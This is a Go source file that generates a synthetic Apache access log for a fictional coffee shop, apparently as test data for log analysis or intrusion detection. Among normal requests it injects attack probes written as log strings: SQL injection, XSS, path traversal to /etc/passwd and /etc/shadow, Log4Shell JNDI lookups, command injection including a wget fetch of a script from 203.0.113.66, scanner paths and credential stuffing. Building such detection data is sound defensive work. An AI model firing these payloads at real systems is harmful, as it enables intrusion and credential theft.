package main

import (
	"fmt"
	"net/url"
	"time"
)

var agents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
	"Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
}

var pages = []string{"/", "/products", "/products/%d", "/blog/%d/how-we-roast", "/cart", "/about", "/search?q=%s", "/api/v1/items?page=%d&sort=price", "/account/orders/%d", "/img/p%d.webp", "/static/app.%d.js", "/static/site.css", "/favicon.ico", "/news?utm_source=mail&utm_campaign=w%d"}

var terms = []string{"coffee", "espresso+machine", "o%27brien+mug", "filter+no.+4", "caf%C3%A9", "beans+%26+more", "gift+under+20", "select+roast"}

// access is a web shop's Apache log.
func access() log {
	return log{
		name: "access.log",
		normal: func(w *world) entry {
			target := pick(w, pages)
			switch {
			case target == "/search?q=%s":
				target = fmt.Sprintf(target, pick(w, terms))
			case len(target) > 2 && containsVerb(target):
				target = fmt.Sprintf(target, w.IntN(900))
			}
			status := 200
			if w.IntN(40) == 0 {
				status = pick(w, []int{301, 304, 404, 302})
			}
			return request(w, w.moment(), w.client(), "GET", target, status, pick(w, agents))
		},
		attacks: []attack{
			{"sqli", probes([]string{"/products/7%27%20or%201=1--%20", "/products?id=7%27+UNION+SELECT+user,password+FROM+users--+-", "/search?q=%27%3BWAITFOR+DELAY+%270:0:5%27--", "/products?id=7+AND+extractvalue(1,concat(0x7e,version()))"}, 200)},
			{"xss", probes([]string{"/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/search?q=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"}, 200)},
			{"traversal", probes([]string{"/static/..%2f..%2f..%2f..%2fetc%2fpasswd", "/img/../../../../../../etc/shadow", "/download?file=....//....//....//windows/win.ini"}, 400)},
			{"lookup", probes([]string{"/?x=${jndi:ldap://203.0.113.66:1389/a}", "/api/v1/items?page=${${lower:j}ndi:${lower:l}dap://203.0.113.66/b}"}, 200)},
			{"cmdi", probes([]string{"/api/v1/ping?host=127.0.0.1;cat+/etc/passwd", "/cgi-bin/status?name=$(wget+http://203.0.113.66/x.sh)"}, 404)},
			{"scanner", func(w *world, from time.Time) []entry {
				paths := []string{"/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/admin/config.php", "/backup.zip", "/server-status", "/actuator/env", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/solr/admin/info/system", "/cgi-bin/luci"}
				var out []entry
				for _, at := range w.every(from, 60, 700*time.Millisecond, 0.5) {
					out = append(out, request(w, at, "203.0.113.77", "GET", pick(w, paths), 404, "Mozilla/5.0 zgrab/0.x"))
				}
				return out
			}},
			{"credential-stuffing", func(w *world, from time.Time) []entry {
				var out []entry
				for _, at := range w.every(from, 80, 900*time.Millisecond, 0.3) {
					out = append(out, request(w, at, "203.0.113.99", "POST", "/account/login", 401, agents[0]))
				}
				return out
			}},
		},
	}
}

func containsVerb(s string) bool {
	for i := range len(s) - 1 {
		if s[i] == '%' && s[i+1] == 'd' {
			return true
		}
	}
	return false
}

// probes sends targets from one address, a few seconds apart.
func probes(targets []string, status int) func(*world, time.Time) []entry {
	return func(w *world, from time.Time) []entry {
		source := fmt.Sprintf("203.0.113.%d", 10+w.IntN(40))
		var out []entry
		for i, at := range w.every(from, len(targets), 4*time.Second, 0.5) {
			out = append(out, request(w, at, source, "GET", targets[i], status, agents[w.IntN(4)]))
		}
		return out
	}
}

func request(w *world, at time.Time, source, method, target string, status int, agent string) entry {
	referrer := "-"
	if w.IntN(3) == 0 {
		referrer = "https://shop.example/" + url.PathEscape(pick(w, []string{"", "products", "blog"}))
	}
	return entry{at: at, text: fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"`,
		source, at.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, 180+w.IntN(40_000), referrer, agent)}
}
